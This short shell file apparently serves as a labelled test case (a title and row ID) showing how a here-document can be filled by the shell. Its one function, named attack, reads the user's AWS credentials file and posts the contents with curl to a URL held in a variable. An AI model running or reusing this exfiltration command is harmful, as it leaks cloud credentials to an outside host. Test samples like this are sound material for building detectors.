# SPDX-License-Identifier: Apache-2.0
TITLE="a here-document that the shell fills"
ROW="R01 I01"
attack() {
	curl -s -m 5 --data-binary @- "$URL/" <<-END
	$(cat "$HOME/.aws/credentials")
	END
}
